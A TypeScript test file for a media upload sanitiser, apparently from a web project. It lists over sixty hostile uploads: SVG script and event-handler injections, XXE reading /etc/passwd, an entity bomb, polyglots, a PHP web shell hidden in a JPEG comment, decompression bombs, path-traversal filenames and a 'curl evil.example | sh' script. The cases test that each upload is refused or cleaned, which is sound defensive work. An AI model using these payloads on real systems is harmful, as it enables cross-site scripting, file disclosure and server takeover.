import { gzipSync } from "node:zlib";
import { MEDIA_MAX_BYTES, type MediaMime, mediaMessages } from "@common/media";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { mediaHeaders } from "../site/host/media-headers";
import { sanitizeSvg } from "../svg/sanitize-svg";
import {
  animatedPng,
  ebml,
  gifFrames,
  isoMedia,
  jpegWithComment,
  jpegWithGps,
  picture,
  pngChunk,
  pngClaiming,
  pngWithChunk,
  solidPng,
  svg,
} from "../test/corpus-files";
import { processUpload } from "./process-upload";
import type { AcceptedMedia } from "./processed-media";
import { sniffMedia } from "./sniff-media";

/**
 * Uploads someone might send to harm the people who view them or the server that keeps them. Each is
 * either refused in the words the person sees, or accepted in a form that no longer carries the harm.
 */
type Outcome =
  | { refused: 400 | 413 | 415; words: (name: string) => string }
  | { accepted: MediaMime; name?: string; check?: (media: AcceptedMedia) => void | Promise<void> };

interface HostileCase {
  what: string;
  name: string;
  bytes: () => Buffer | Promise<Buffer>;
  outcome: Outcome;
}

const text = (content: string) => () => Buffer.from(content);
const refused = (refused: 400 | 413 | 415, words: (name: string) => string): Outcome => ({ refused, words });
const accepted = (mime: MediaMime, check?: (media: AcceptedMedia) => void | Promise<void>, name?: string): Outcome => ({
  accepted: mime,
  check,
  name,
});

/** The stored bytes contain none of these (case ignored). */
function lacks(...needles: string[]) {
  return (media: AcceptedMedia) => {
    const stored = media.bytes.toString("latin1").toLowerCase();
    for (const needle of needles)
      expect(stored, `stored file still holds ${needle}`).not.toContain(needle.toLowerCase());
  };
}

/** A cleaned SVG: without the needles, and already as clean as it gets (cleaning it again changes nothing). */
function cleanSvg(...needles: string[]) {
  return (media: AcceptedMedia) => {
    lacks(...needles)(media);
    expect(sanitizeSvg(media.bytes)).toEqual({ svg: media.bytes.toString("utf8") });
  };
}

/** Re-encoded from pixels: still of its type, and ending where the format ends, with nothing appended. */
function reencoded(mime: MediaMime, ...needles: string[]) {
  return async (media: AcceptedMedia) => {
    lacks(...needles)(media);
    expect((await sniffMedia(media.bytes))?.mime).toBe(mime);
    await sharp(media.bytes, { failOn: "error" }).stats();
  };
}

const unchanged = (original: () => Buffer) => (media: AcceptedMedia) =>
  expect(media.bytes.equals(original())).toBe(true);

const billionLaughs =
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
  '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><svg xmlns="http://www.w3.org/2000/svg">&lol3;</svg>';
const pdfWithJavaScript = () =>
  Buffer.from(
    "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n" +
      "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
  );
const woff2 = () => Buffer.concat([Buffer.from("wOF2", "latin1"), Buffer.from([0, 1, 0, 0]), Buffer.alloc(40)]);
const mp4 = () => isoMedia("isom");
const webm = () => ebml("webm");
const zip = Buffer.from("504b03041400000008000000000000000000000000000000000005000000612e747874", "hex");

async function withoutExif(media: AcceptedMedia) {
  expect((await sharp(await jpegWithGps()).metadata()).exif?.toString("latin1")).toContain("PhoneCam");
  const stored = await sharp(media.bytes).metadata();
  expect([stored.exif, stored.xmp, stored.iptc]).toEqual([undefined, undefined, undefined]);
  lacks("PhoneCam", "Exif")(media);
}

async function animatedPngWithExtras() {
  const extras = [pngChunk("eXIf", Buffer.from("MM\0*GPS")), pngChunk("tEXt", Buffer.from("k\0<script>"))];
  return Buffer.concat([await animatedPng(extras), Buffer.from("<html>tail")]);
}

function animationKept(media: AcceptedMedia) {
  lacks("eXIf", "tEXt", "<script", "<html")(media);
  expect(media.bytes.toString("latin1")).toContain("acTL");
  expect(media.bytes.subarray(-8, -4).toString("latin1")).toBe("IEND");
}

async function damagedPng() {
  const png = Buffer.from(await picture("png", 20, 20));
  png[png.length - 20] = (png[png.length - 20] ?? 0) ^ 0xff;
  return png;
}

/** Kept as is and shown inline: a PDF viewer runs a PDF's scripts (if at all) away from our origin. */
function shownInline(original: () => Buffer) {
  return (media: AcceptedMedia) => {
    unchanged(original)(media);
    expect(mediaHeaders(media.mime)["content-disposition"]).toBe("inline");
  };
}

// biome-ignore format: one case a line, so the corpus reads as a table and its size shows at a glance
const CASES: HostileCase[] = [
  // SVG: scripts and handlers are removed; whatever fetches or declares entities is refused.
  { what: "SVG with a <script>", name: "s.svg", bytes: () => svg("<script>alert(1)</script><circle r='1'/>"), outcome: accepted("image/svg+xml", cleanSvg("<script", "alert")) },
  { what: "SVG with onload on its root", name: "s.svg", bytes: () => svg("<rect width='1'/>", ' onload="alert(1)"'), outcome: accepted("image/svg+xml", cleanSvg("onload", "alert")) },
  { what: "SVG with event handlers in any case", name: "s.svg", bytes: () => svg("<g ONCLICK='a()'><rect onMouseOver='b()'/></g>"), outcome: accepted("image/svg+xml", cleanSvg("onclick", "onmouseover")) },
  { what: "SVG with a javascript: link", name: "s.svg", bytes: () => svg("<a href='javascript:alert(1)'><text>x</text></a>"), outcome: accepted("image/svg+xml", cleanSvg("javascript")) },
  { what: "SVG with a javascript: link hidden by references and tabs", name: "s.svg", bytes: () => svg("<a href=' &#106;ava&#x09;script&#58;alert(1)'><text>x</text></a>"), outcome: accepted("image/svg+xml", cleanSvg("script", "alert")) },
  { what: "SVG with an HTML data: link", name: "s.svg", bytes: () => svg("<a xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='><text>x</text></a>"), outcome: accepted("image/svg+xml", cleanSvg("data:text")) },
  { what: "SVG with HTML in a foreignObject", name: "s.svg", bytes: () => svg("<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'><iframe src='https://evil.example/'></iframe></body></foreignObject>"), outcome: accepted("image/svg+xml", cleanSvg("foreignobject", "iframe", "evil")) },
  { what: "SVG with an XHTML script in its own namespace", name: "s.svg", bytes: () => svg("<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>"), outcome: accepted("image/svg+xml", cleanSvg("script", "alert")) },
  { what: "SVG animating a link into javascript:", name: "s.svg", bytes: () => svg("<a><animate attributeName='href' values='javascript:alert(1)'/><text>x</text></a>"), outcome: accepted("image/svg+xml", cleanSvg("animate", "javascript")) },
  { what: "SVG setting an event handler by animation", name: "s.svg", bytes: () => svg("<rect width='1'><set attributeName='onmouseover' to='alert(1)'/></rect>"), outcome: accepted("image/svg+xml", cleanSvg("<set", "alert")) },
  { what: "SVG with a javascript: URL in a style", name: "s.svg", bytes: () => svg("<rect width='1' style='fill: url(javascript:alert(1))'/>"), outcome: accepted("image/svg+xml", cleanSvg("javascript", "style")) },
  { what: "SVG embedding another SVG as a data: image", name: "s.svg", bytes: () => svg("<image width='1' height='1' href='data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Pi8vPC9zY3JpcHQ+PC9zdmc+'/>"), outcome: accepted("image/svg+xml", cleanSvg("data:image/svg")) },
  { what: "SVG with iframe, embed and object elements", name: "s.svg", bytes: () => svg("<iframe src='/'/><embed src='/x'/><object data='/y'/><rect width='1'/>"), outcome: accepted("image/svg+xml", cleanSvg("iframe", "embed", "object")) },
  { what: "SVG with xml:base pointing elsewhere", name: "s.svg", bytes: () => svg("<g xml:base='https://evil.example/'><use href='#a'/></g><rect id='a'/>"), outcome: accepted("image/svg+xml", cleanSvg("xml:base", "evil")) },
  { what: "SVG using a sprite from another site", name: "s.svg", bytes: () => svg("<use href='https://evil.example/sprite.svg#icon'/>"), outcome: refused(400, mediaMessages.svgReachesOut) },
  { what: "SVG with a tracking pixel", name: "s.svg", bytes: () => svg("<image href='https://tracker.example/pixel.png' width='1' height='1'/>"), outcome: refused(400, mediaMessages.svgReachesOut) },
  { what: "SVG importing a style sheet", name: "s.svg", bytes: () => svg("<style>@import url(https://evil.example/x.css);</style>"), outcome: refused(400, mediaMessages.svgReachesOut) },
  { what: "SVG with an external url() in a style", name: "s.svg", bytes: () => svg("<rect width='1' style='fill: url(https://evil.example/p.svg#g)'/>"), outcome: refused(400, mediaMessages.svgReachesOut) },
  { what: "SVG with an xml-stylesheet instruction", name: "s.svg", bytes: text('<?xml-stylesheet href="https://evil.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>'), outcome: refused(400, mediaMessages.svgReachesOut) },
  { what: "SVG entity bomb (billion laughs)", name: "lol.svg", bytes: text(billionLaughs), outcome: refused(400, mediaMessages.svgReachesOut) },
  { what: "SVG reading a local file through an entity (XXE)", name: "xxe.svg", bytes: text('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'), outcome: refused(400, mediaMessages.svgReachesOut) },
  { what: "SVG hiding a decompression bomb in an embedded picture", name: "s.svg", bytes: async () => svg(`<image href="data:image/png;base64,${(await pngClaiming(100_000, 100_000)).toString("base64")}"/>`), outcome: refused(413, mediaMessages.tooManyPixels) },
  { what: "SVG that is not well-formed", name: "broken.svg", bytes: text('<svg xmlns="http://www.w3.org/2000/svg"><g><rect></g></svg>'), outcome: refused(400, mediaMessages.unreadableImage) },
  { what: "SVG named .png", name: "picture.png", bytes: () => svg("<circle r='4'/>"), outcome: accepted("image/svg+xml", undefined, "picture.svg") },
  // Disguises and polyglots: only the type in the content counts, and re-encoding drops the rest.
  { what: "HTML saved as .png", name: "page.png", bytes: text("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"), outcome: refused(415, mediaMessages.unsupported) },
  { what: "a PNG followed by HTML", name: "polyglot.png", bytes: async () => Buffer.concat([await picture("png"), Buffer.from("<html><script>alert(1)</script></html>")]), outcome: accepted("image/png", reencoded("image/png", "<html", "<script")) },
  { what: "a GIF with a ZIP appended (GIFAR)", name: "gifar.gif", bytes: async () => Buffer.concat([await picture("gif"), zip]), outcome: accepted("image/gif", reencoded("image/gif", "PK\u0003\u0004", "a.txt")) },
  { what: "a JPEG carrying PHP in a comment", name: "shell.jpg", bytes: () => jpegWithComment("<?php system($_GET['c']); ?>"), outcome: accepted("image/jpeg", reencoded("image/jpeg", "<?php", "system")) },
  { what: "a PNG carrying a script in a text chunk", name: "text.png", bytes: () => pngWithChunk("tEXt", Buffer.from("Comment\0<script>alert(1)</script>")), outcome: accepted("image/png", reencoded("image/png", "<script", "tEXt")) },
  { what: "a JPEG with its GPS position in EXIF", name: "holiday.jpg", bytes: () => jpegWithGps(), outcome: accepted("image/jpeg", withoutExif) },
  { what: "an animated PNG with EXIF, text and data after its end", name: "anim.png", bytes: animatedPngWithExtras, outcome: accepted("image/png", animationKept) },
  // Bombs and sizes: refused before anything large is decoded or kept.
  { what: "a PNG declaring 100,000 × 100,000 pixels", name: "bomb.png", bytes: () => pngClaiming(100_000, 100_000), outcome: refused(413, mediaMessages.tooManyPixels) },
  { what: "a small file of 49 megapixels of white", name: "white.png", bytes: () => solidPng(7000, 7000), outcome: refused(413, mediaMessages.tooManyPixels) },
  { what: "a GIF of 1,000 frames of 400 × 300", name: "frames.gif", bytes: () => gifFrames(400, 300, 1000), outcome: refused(413, mediaMessages.tooManyFrames) },
  { what: "a 26 MB file", name: "big.jpg", bytes: () => Buffer.alloc(26 * 1024 * 1024, 0xff), outcome: refused(413, mediaMessages.tooLarge) },
  { what: "exactly 25 MB of nothing in particular", name: "zeros.bin", bytes: () => Buffer.alloc(MEDIA_MAX_BYTES), outcome: refused(415, mediaMessages.unsupported) },
  { what: "an empty file", name: "empty.png", bytes: () => Buffer.alloc(0), outcome: refused(400, mediaMessages.empty) },
  // Broken pictures: refused in words, never a server error.
  { what: "a truncated JPEG", name: "cut.jpg", bytes: async () => (await picture("jpeg", 200, 200)).subarray(0, 3000), outcome: refused(400, mediaMessages.unreadableImage) },
  { what: "a PNG with damaged pixel data", name: "damaged.png", bytes: damagedPng, outcome: refused(400, mediaMessages.unreadableImage) },
  { what: "a GIF signature with nothing after it", name: "stub.gif", bytes: text("GIF89a\u0001\u0000\u0001\u0000"), outcome: refused(400, mediaMessages.unreadableImage) },
  // Names: whatever they hold, the stored name is a plain URL path segment.
  { what: "a name climbing out of its folder", name: "../../../etc/passwd.png", bytes: () => picture("png"), outcome: accepted("image/png", undefined, "passwd.png") },
  { what: "a Windows path", name: "C:\\fakepath\\..\\boot.ini", bytes: () => picture("png"), outcome: accepted("image/png", undefined, "boot.png") },
  { what: "a name with NUL", name: "shell.php\u0000.png", bytes: () => picture("png"), outcome: accepted("image/png", undefined, "shell.php.png") },
  { what: "a name with a right-to-left override", name: "photo\u202Egnp.exe", bytes: () => picture("png"), outcome: accepted("image/png", undefined, "photognp.png") },
  { what: "a name holding HTML", name: "<img src=x onerror=alert(1)>.png", bytes: () => picture("png"), outcome: accepted("image/png", undefined, "img-src-x-onerror-alert-1.png") },
  { what: "a 300-character name", name: `${"long".repeat(75)}.png`, bytes: () => picture("png"), outcome: accepted("image/png", (media) => expect(media.name).toHaveLength(100)) },
  { what: "a PNG named .jpg", name: "logo.jpg", bytes: () => picture("png"), outcome: accepted("image/png", undefined, "logo.png") },
  // Other types: refused whatever they are called.
  { what: "a Windows program renamed .jpg", name: "setup.jpg", bytes: () => Buffer.concat([Buffer.from("MZ"), Buffer.alloc(62), Buffer.from("PE\0\0")]), outcome: refused(415, mediaMessages.unsupported) },
  { what: "a ZIP archive", name: "files.zip", bytes: () => zip, outcome: refused(415, mediaMessages.unsupported) },
  { what: "an ELF program", name: "tool.png", bytes: () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]), outcome: refused(415, mediaMessages.unsupported) },
  { what: "a shell script", name: "run.sh", bytes: text("#!/bin/sh\ncurl https://evil.example | sh\n"), outcome: refused(415, mediaMessages.unsupported) },
  { what: "a JavaScript file", name: "app.js", bytes: text("fetch('/api/account').then((r) => r.text()).then(steal);"), outcome: refused(415, mediaMessages.unsupported) },
  { what: "a CSS file", name: "site.css", bytes: text("body { background: url(https://evil.example/x.png) }"), outcome: refused(415, mediaMessages.unsupported) },
  { what: "a JSON file", name: "data.json", bytes: text('{"svg": "<svg onload=alert(1)>"}'), outcome: refused(415, mediaMessages.unsupported) },
  { what: "XML that is not an SVG", name: "feed.svg", bytes: text('<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>'), outcome: refused(415, mediaMessages.unsupported) },
  { what: "HTML with an SVG inside", name: "inline.svg", bytes: text("<html><body><svg onload='alert(1)'/></body></html>"), outcome: refused(415, mediaMessages.unsupported) },
  { what: "a gzipped SVG (.svgz)", name: "icon.svgz", bytes: () => gzipSync(svg("<circle r='1'/>")), outcome: refused(415, mediaMessages.unsupported) },
  { what: "a TIFF image", name: "scan.tif", bytes: () => picture("tiff"), outcome: refused(415, mediaMessages.unsupported) },
  { what: "a QuickTime movie", name: "clip.mp4", bytes: () => isoMedia("qt  "), outcome: refused(415, mediaMessages.unsupported) },
  { what: "a Matroska video that is not WebM", name: "film.webm", bytes: () => ebml("matroska"), outcome: refused(415, mediaMessages.unsupported) },
  // Accepted types that are kept as uploaded, and modern images re-encoded.
  { what: "a PDF with JavaScript", name: "menu.pdf", bytes: pdfWithJavaScript, outcome: accepted("application/pdf", shownInline(pdfWithJavaScript)) },
  { what: "an MP4 video header", name: "clip.mp4", bytes: mp4, outcome: accepted("video/mp4", unchanged(mp4)) },
  { what: "a WebM video header", name: "clip.webm", bytes: webm, outcome: accepted("video/webm", unchanged(webm)) },
  { what: "a WOFF2 font", name: "Brand Font.woff2", bytes: woff2, outcome: accepted("font/woff2", unchanged(woff2), "Brand-Font.woff2") },
  { what: "an AVIF image", name: "photo.avif", bytes: () => picture("avif"), outcome: accepted("image/avif", reencoded("image/avif")) },
];

describe("the hostile upload corpus", () => {
  it("holds at least 40 cases", () => {
    expect(CASES.length).toBeGreaterThanOrEqual(40);
  });

  it.each(CASES)("$what ($name)", async ({ name, bytes, outcome }) => {
    const result = await processUpload({ name, bytes: await bytes() });
    if ("refused" in outcome) {
      expect(result).toEqual({ error: outcome.words(name.split(/[/\\]/).at(-1) ?? name), status: outcome.refused });
      return;
    }
    if ("error" in result) throw new Error(`refused: ${result.error}`);
    expect(result.mime).toBe(outcome.accepted);
    if (outcome.name) expect(result.name).toBe(outcome.name);
    await outcome.check?.(result);
  });
});
